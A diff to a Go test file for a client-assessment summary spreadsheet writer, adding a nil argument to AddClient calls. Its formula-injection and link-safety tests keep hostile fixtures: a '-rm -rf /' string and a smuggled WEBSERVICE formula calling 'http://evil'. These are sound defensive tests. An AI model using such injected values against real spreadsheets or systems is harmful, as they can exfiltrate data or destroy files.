@@ -42,12 +42,12 @@ func writeFixtureSummary(t *testing.T, extra ...*assess.Assessment) string {
 	}
 	pdfs := []string{"opinions/C-1001_Bérubé_Élodie_CEC-opinion.pdf", "opinions/C-1002_Nguyễn_Thị-Minh_CEC-opinion.pdf", ""}
 	for i, a := range fxAll() {
-		if err := s.AddClient(a, pdfs[i]); err != nil {
+		if err := s.AddClient(a, nil, pdfs[i]); err != nil {
 			t.Fatal(err)
 		}
 	}
 	for _, a := range extra {
-		if err := s.AddClient(a, "opinions/"+OpinionFileName(a.Client)); err != nil {
+		if err := s.AddClient(a, nil, "opinions/"+OpinionFileName(a.Client)); err != nil {
 			t.Fatal(err)
 		}
 	}
@@ -68,7 +68,7 @@ func writeFixtureSummary(t *testing.T, extra ...*assess.Assessment) string {
 	if err := s.Close(summaryRunInfo()); err != nil {
 		t.Fatal(err)
 	}
-	if err := s.AddClient(fxEligible(), ""); err == nil {
+	if err := s.AddClient(fxEligible(), nil, ""); err == nil {
 		t.Error("AddClient after Close succeeded")
 	}
 	if err := s.AddProblem("x.xlsx", "", "", "late", false); err == nil {
@@ -341,10 +341,10 @@ func TestSummaryFormulaText(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if err := s.AddClient(a, "opinions/"+OpinionFileName(a.Client)); err != nil {
+	if err := s.AddClient(a, nil, "opinions/"+OpinionFileName(a.Client)); err != nil {
 		t.Fatal(err)
 	}
-	if err := s.AddClient(b, ""); err != nil {
+	if err := s.AddClient(b, nil, ""); err != nil {
 		t.Fatal(err)
 	}
 	if err := s.AddRejected("=evil.xlsx", "-rm -rf /"); err != nil {
@@ -447,7 +447,7 @@ func TestSummaryLinkSafety(t *testing.T) {
 		t.Fatal(err)
 	}
 	bad := `opinions/x.pdf")&WEBSERVICE("http://evil`
-	if err := s.AddClient(fxEligible(), bad); err != nil {
+	if err := s.AddClient(fxEligible(), nil, bad); err != nil {
 		t.Fatal(err)
 	}
 	if err := s.Close(RunInfo{}); err != nil {
@@ -469,7 +469,7 @@ func TestSummaryAbort(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if err := s.AddClient(fxNotEligible(), ""); err != nil {
+	if err := s.AddClient(fxNotEligible(), nil, ""); err != nil {
 		t.Fatal(err)
 	}
 	if err := s.Abort(); err != nil {
@@ -497,7 +497,7 @@ func TestSummaryConcurrent(t *testing.T) {
 		go func() {
 			defer wg.Done()
 			for i := 0; i < each; i++ {
-				if err := s.AddClient(fxAll()[i%3], ""); err != nil {
+				if err := s.AddClient(fxAll()[i%3], nil, ""); err != nil {
 					t.Error(err)
 				}
 				if i%10 == 0 {
@@ -745,7 +745,7 @@ func benchmarkSummary(b *testing.B, clients int) {
 			b.Fatal(err)
 		}
 		for n := 0; n < clients; n++ {
-			if err := s.AddClient(fixtures[n%3], "opinions/C-1001_Bérubé_Élodie_CEC-opinion.pdf"); err != nil {
+			if err := s.AddClient(fixtures[n%3], nil, "opinions/C-1001_Bérubé_Élodie_CEC-opinion.pdf"); err != nil {
 				b.Fatal(err)
 			}
 		}
